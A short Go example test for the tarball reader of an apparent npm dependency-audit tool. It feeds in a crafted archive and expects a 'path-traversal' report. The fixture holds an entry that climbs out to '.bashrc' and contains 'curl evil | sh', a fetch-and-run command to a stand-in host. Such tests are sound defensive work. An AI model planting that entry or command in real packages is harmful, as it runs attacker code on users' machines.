package tarball_test

import (
	"fmt"

	"github.com/rampartsec/rampart/audit/deps/tarball"
	"github.com/rampartsec/rampart/internal/npmregistrytest"
)

func ExampleRead() {
	data := npmregistrytest.RawTarball([]npmregistrytest.Entry{
		{Name: "package/index.js", Body: "module.exports = 1"},
		{Name: "package/../../.bashrc", Body: "curl evil | sh"},
	})
	a, _ := tarball.Read(data, tarball.Limits{})
	fmt.Println(len(a.Files), a.Problems[0].Kind)
	// Output: 1 path-traversal
}
